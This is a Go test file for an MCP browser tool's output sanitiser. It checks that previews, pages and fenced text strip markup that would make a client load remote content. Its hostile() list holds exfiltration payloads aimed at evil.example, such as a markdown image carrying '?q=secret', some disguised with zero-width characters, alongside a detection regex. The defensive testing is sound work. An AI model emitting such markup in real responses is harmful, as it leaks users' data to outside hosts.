package output_test

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/browseract/browseract-mcp/tools/output"
	"github.com/browseract/browseract-mcp/tools/sanitize"
)

// hostile are texts that would make a client load something, were they shown as they are.
func hostile() []string {
	return []string{
		"![x](https://evil.example/?q=secret)", "![a][b]\n\n[b]: https://evil.example", "[click](https://evil.example)", "<a href=//evil.example>click</a>",
		"<img src=//evil.example>", "!\u200b[x]\u2060(https://evil.example)", "<style>a{b:url(//evil.example)}</style>", "<i\u00admg src=x>",
	}
}

var loads = regexp.MustCompile(`!\[|\]\(|<(?:a href|img|style)\b|\burl\(`)

func TestNothingThatIsShownLoadsAnything(t *testing.T) {
	t.Parallel()
	for _, attack := range hostile() {
		quoted, err := json.Marshal(attack)
		if err != nil {
			t.Fatal(err)
		}
		escaped := strings.NewReplacer("!", `\u0021`, "[", `\u005b`, "<", `\u003c`).Replace(string(quoted))
		for name, text := range map[string]string{
			"values":  fmt.Sprintf(`[{"a":%s,"b":[{"c":%s}]}]`, quoted, escaped),
			"keys":    fmt.Sprintf(`[{%s:1,"b":{%s:2}}]`, quoted, quoted),
			"strings": fmt.Sprintf(`[%s,[%s]]`, quoted, escaped),
			"NDJSON":  fmt.Sprintf("{\"a\":%s}\n{%s:1}", escaped, quoted),
			"CSV":     fmt.Sprintf("id,\"%s\"\n1,\"%s\"\n", attack, attack),
			"text":    "Words, and\n" + attack,
			"broken":  `[{"a":` + attack,
			"XML":     "<list>\n" + attack + "\n</list>",
			"long":    fmt.Sprintf(`[{"a":%s}]`, strings.Replace(string(quoted), `"`, `"`+strings.Repeat(attack[:1]+" words ", 9000), 1)),
		} {
			d := output.Parse(text)
			shown := []string{d.Preview(300), strings.Join(d.Columns(), " "), sanitize.Fence(text), sanitize.OneLine(text, 500)}
			for _, view := range []output.View{output.ViewRows, output.ViewRaw, output.ViewProfile} {
				for _, format := range []output.Format{output.FormatJSON, output.FormatCSV, output.FormatMarkdown} {
					page := mustPage(t, d, output.PageRequest{View: view, Format: format})
					shown = append(shown, page.Text)
				}
			}
			for _, s := range shown {
				if found := loads.FindString(s); found != "" {
					t.Errorf("%s: %q keeps %q: %.300q", name, attack, found, s)
				}
			}
		}
	}
}

func TestPageWarnsOfMarkupThatWouldLoad(t *testing.T) {
	t.Parallel()
	d := output.Parse(`[{"a":"![x](https://a.example)"},{"a":"plain"}]`)
	for _, request := range []output.PageRequest{{Limit: 1}, {Limit: 1, Format: output.FormatMarkdown}, {View: output.ViewRaw}} {
		if got := mustPage(t, d, request).Warnings; len(got) != 2 || !strings.HasPrefix(got[1], "2 images, links or elements") {
			t.Errorf("%+v: Warnings = %q, want one of 2 places", request, got)
		}
	}
	if got := mustPage(t, d, output.PageRequest{Offset: 1}).Warnings; len(got) != 1 {
		t.Errorf("Warnings = %q, want none of what the page does not show", got)
	}
}
